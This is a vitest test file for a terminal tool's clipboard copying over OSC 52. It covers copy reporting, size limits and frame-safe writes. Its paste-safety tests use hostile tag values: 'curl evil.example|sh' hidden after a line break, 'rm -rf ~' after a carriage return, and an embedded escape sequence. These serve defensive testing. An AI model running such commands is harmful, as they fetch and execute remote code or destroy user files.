import {describe, expect, it} from 'vitest';
import {copied, expectCopy, keeping, printAfter, printedIn, sent, sentText} from '../../helpers/clipboard/copy-run.ts';
import {casesOf} from '../../helpers/project/torture.ts';
import type {Terminal} from '../../helpers/terminal/terminal.ts';

describe('a copy by the terminal', () => {
	it('P3: is reported as sent and not confirmed, on and after the screen', () => {
		const use = async (terminal: Terminal) => {
			terminal.press('ctrl+y');
			await terminal.waitForText(`✓ ${sentText(copied)}`);
			expect(terminal.screen()).not.toContain('copied');
			terminal.press('enter');
		};
		return expectCopy({use}, ({said, arrived}) => {
			expect({said, arrived}).toEqual({said: sent, arrived: [copied, copied]});
		});
	});

	it('P4: is refused if it is a byte longer, and printed whole', () => {
		const text = `os:${'x'.repeat(74_992)}`;
		const use = printAfter('not copied (74,995 bytes, terminals accept at most 74,994); alt-p prints it');
		return expectCopy({tags: [text], use}, ({said, arrived, written}) => {
			expect({said, arrived}).toEqual({said: '', arrived: []});
			expect(printedIn(written)).toBe(`${text}\r\n`);
		});
	});

	it('P7: is written whole and in no frame, while the screen is drawn', () => {
		const use = async (terminal: Terminal) => {
			for (let copies = 1; copies <= 5; copies++) {
				terminal.press('backspace', 'ctrl+y');
				terminal.type('u');
				terminal.resize(150 + copies, 20 + (copies % 2));
				await terminal.waitFor(() => terminal.clipboard.length === copies, `copy ${copies}`);
			}
			terminal.press('enter');
		};
		return expectCopy({use, arguments: ['--clipboard', 'osc52']}, ({arrived, written}) => {
			expect(arrived).toEqual(Array(6).fill(copied));
			const betweenFrames = written.replaceAll(/\x1b\[\?2026h.*?\x1b\[\?2026l/gs, '');
			expect(betweenFrames.split(`\u001b]52;c;${btoa(copied)}\u0007`)).toHaveLength(7);
			expect(written.split('\u001b]52;')).toHaveLength(7);
		});
	});
});

describe('a tag that acts when pasted', () => {
	const hostile = 'os:x\ncurl evil.example|sh\n';
	const shown = 'os:x^Jcurl evil.example|sh^J';

	const refused = [
		['a line break', hostile, shown],
		['an escape sequence', 'os:x\u001b]52;c;eA==\u0007', 'os:x^[]52;c;eA==^G'],
		['a carriage return', 'os:x\rrm -rf ~', 'os:x^Mrm -rf ~'],
	] as const;

	it.each(casesOf(refused, 1))('P5: is refused with %s, and the reason is given', (_, tag, name) => {
		const use = async (terminal: Terminal) => {
			terminal.press('enter');
			await terminal.waitForText(`\`${name}\` cannot be written as csv (it contains a control character); use json`);
			terminal.press('ctrl+c');
		};
		return expectCopy({tags: [tag], use, exitCode: 130}, ({said, arrived}) => {
			expect({said, arrived}).toEqual({said: '', arrived: []});
		});
	});

	it('P5: is copied as JSON on one line, without a final line break', () =>
		expectCopy({tags: [hostile], arguments: ['--as', 'json'], tools: keeping}, ({said, left}) => {
			const text = JSON.stringify([hostile]);
			expect(said).toBe(`copied ${text}\n`);
			expect(left('copied')).toBe(text);
		}));
});
